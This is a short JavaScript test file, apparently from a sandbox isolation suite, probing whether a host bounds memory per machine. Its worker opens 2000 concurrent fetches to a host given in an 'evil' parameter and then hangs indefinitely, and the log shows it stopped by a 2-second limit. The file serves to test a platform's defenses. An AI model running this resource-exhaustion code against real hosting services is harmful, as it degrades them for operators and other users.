// attack: host memory
// promise: what the host keeps for a machine is bounded with the machine's memory
// limit: time
// memory: 72
// ends: 504 time_limit
// log: the time limit of 2 s was reached
export default { async fetch(request, env, ctx) {
  const at = (path) => `http://${new URL(request.url).searchParams.get('evil')}/${path}`;
  const kept = [];
  for (let i = 0; i < 2000; i++) kept.push(fetch(at('endless')).catch(() => {}));
  await Promise.all(kept);
  await new Promise(() => { setInterval(() => {}, 1000); });
} };
